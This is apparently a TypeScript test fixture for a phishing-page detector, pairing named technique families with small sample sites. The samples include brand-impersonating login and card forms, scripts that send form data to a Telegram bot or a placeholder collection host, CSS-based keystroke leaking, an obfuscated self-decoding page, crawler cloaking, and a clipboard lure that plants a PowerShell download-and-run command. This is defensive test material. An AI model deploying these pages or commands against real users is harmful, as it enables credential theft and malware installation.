import type { GivenDraft } from "./given-draft.ts"
import { makeSite } from "./innocent-site.ts"
import { broken, program, writeScriptedForm } from "./rule-cases.ts"

const login = (attributes = `action="/login" method="post"`) =>
  `<form ${attributes}><input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>`
const password = `<input type="password" name="password">`
const ours = "Ferry tickets to Skerry"
const heading = "<h1>Ferry tickets</h1>"
const paypalLogo = `<img class="logo" src="logo.png" alt="PayPal">`
const send = (url: string) =>
  `<script>document.forms[0].onsubmit=function(e){e.preventDefault();fetch("${url}",{method:"POST",body:new FormData(this)})}</script>`
/** Two keys in turn: not to be read without running it. */
const ciphered = btoa(
  Array.from(`<h1>Log in</h1>${login()}`.repeat(3), (letter, n) =>
    String.fromCharCode(letter.charCodeAt(0) ^ (n % 2 === 0 ? 91 : 173)),
  ).join(""),
)

/** A family, and a draft that is flagged and is not without the family. */
export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDraft]> = [
  ["borrowed-name", makeSite("signs in under a name", "PayPal: Log in", login())],
  [
    "borrowed-name",
    makeSite(
      "asks for a card under a name",
      "Netflix - Update your payment details",
      `<form action="/pay"><input name="cardnumber"><input name="cvv"></form>`,
    ),
  ],
  [
    "borrowed-name",
    makeSite(
      "makes its form",
      "PayPal: Log in",
      `<div id="a"></div><script>a.innerHTML='<form><input type="pass'+'word"></form>'</script>`,
    ),
  ],
  [
    "borrowed-name",
    makeSite(
      "masks a text field",
      "PayPal",
      `<style>.x{-webkit-text-security:disc}</style><form action="/a"><input class="x" name="x"></form>`,
    ),
  ],
  ["disguised-name", makeSite("writes a name in other letters", "Ferry: Раураl", `<h1>Раураl</h1>${login()}`)],
  [
    "wallet-phrase",
    makeSite(
      "asks for a phrase",
      ours,
      `${heading}<form action="/a"><textarea name="t" placeholder="Your seed phrase"></textarea></form>`,
    ),
  ],
  [
    "exfiltration",
    makeSite("sends to a chat", ours, `${heading}${login("")}${send("https://api.telegram.org/bot1:A/sendMessage")}`),
  ],
  [
    "base-address",
    makeSite(
      "sends all elsewhere",
      ours,
      `<base href="https://gather.example/">${heading}${paypalLogo}${login(`action="in"`)}`,
    ),
  ],
  [
    "kit-action",
    makeSite("uses a kit", "PayPal ferries", `<h2>Ferry tickets</h2>${paypalLogo}${login(`action="next.php"`)}`),
  ],
  [
    "style-log",
    makeSite(
      "logs by style",
      ours,
      `<style>input[value^="a"]{background:url(https://gather.example/a)}</style>${heading}${login()}`,
    ),
  ],
  [
    "hot-links",
    makeSite(
      "borrows an icon",
      "PayPal ferries",
      `<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/favicon.ico"><h2>Ferry tickets</h2>${login()}`,
    ),
  ],
  [
    "frames",
    makeSite(
      "shows another site in full",
      "DHL Tracking",
      `<iframe src="https://gather.example/" style="position:fixed;inset:0;width:100%;height:100%"></iframe>`,
    ),
  ],
  [
    "redirects",
    makeSite("leads on", "DHL Tracking", `<meta http-equiv="refresh" content="1;url=https://gather.example/">`),
  ],
  [
    "decoding",
    makeSite(
      "runs what it decodes",
      ours,
      `<script>var s=atob("${ciphered}"),o="";for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^(i%2?173:91));document.write(o)</script>`,
    ),
  ],
  [
    "made-pages",
    makeSite(
      "carries a page",
      "PayPal ferries",
      `<h2>Ferry tickets</h2>${paypalLogo}<iframe src="data:text/html,${encodeURIComponent(login())}"></iframe>`,
    ),
  ],
  [
    "odd-places",
    {
      id: "asks in a drawing",
      files: {
        "index.html": `<title>${ours}</title>${heading}<embed src="a.svg">`,
        "a.svg": `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${login()}</foreignObject></svg>`,
      },
    },
  ],
  [
    "lure",
    makeSite("lures", "Ferry", `<h1>Herzlichen Glückwunsch!</h1><form action="/pay"><input name="cardnumber"></form>`),
  ],
  [
    "drawn-window",
    makeSite(
      "draws a window",
      ours,
      `<h1>${ours}</h1>${paypalLogo}<div>🔒 https://www.paypal.com/signin</div>${writeScriptedForm("https://gather.example/", password)}`,
    ),
  ],
  [
    "picture-page",
    makeSite("is one picture", "Log in", `<style>body{background:url(img/paypal-login.png)}</style>${login()}`),
  ],
  [
    "gates",
    makeSite(
      "asks only people",
      ours,
      `${heading}<div id="a"></div><script>if(!/bot|crawler/i.test(navigator.userAgent))a.innerHTML='${login()}'</script>`,
    ),
  ],
  [
    "card-data",
    makeSite(
      "card and PIN under nothing",
      ours,
      `<h1>${ours}</h1>${writeScriptedForm("https://gather.example/", `<input name="cardnumber"><input name="pin">`)}`,
    ),
  ],
  [
    "pressure",
    makeSite("presses for a password", "Webmail", `<h1>Webmail</h1><p>Your mailbox is almost full.</p>${login()}`),
  ],
  [
    "command",
    makeSite(
      "has a command run",
      "Are you human?",
      `<p>Press Windows + R, then Ctrl + V</p><script>document.onclick=()=>navigator.clipboard.writeText("powershell iwr https://gather.example/a | iex")</script>`,
    ),
  ],
  [
    "broken-words",
    makeSite(
      "has letters in words",
      ours,
      `<h1>${broken}</h1>${writeScriptedForm("https://gather.example/", password)}`,
    ),
  ],
  ["under-name", makeSite("saves a program", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
  [
    "lookalike-address",
    makeSite(
      "sends to a host with a name in it",
      ours,
      `${heading}${writeScriptedForm("https://paypal-check.example/in", password)}`,
    ),
  ],
  ["taking", makeSite("takes by a form", ours, `${heading}${login(`action="https://gather.example/"`)}`)],
  [
    "institution",
    makeSite(
      "is a house",
      "Skerry Bank",
      `<h1>Skerry Bank</h1>${login(`action="next.php"`)}<iframe hidden src="a.html"></iframe>`,
    ),
  ],
]
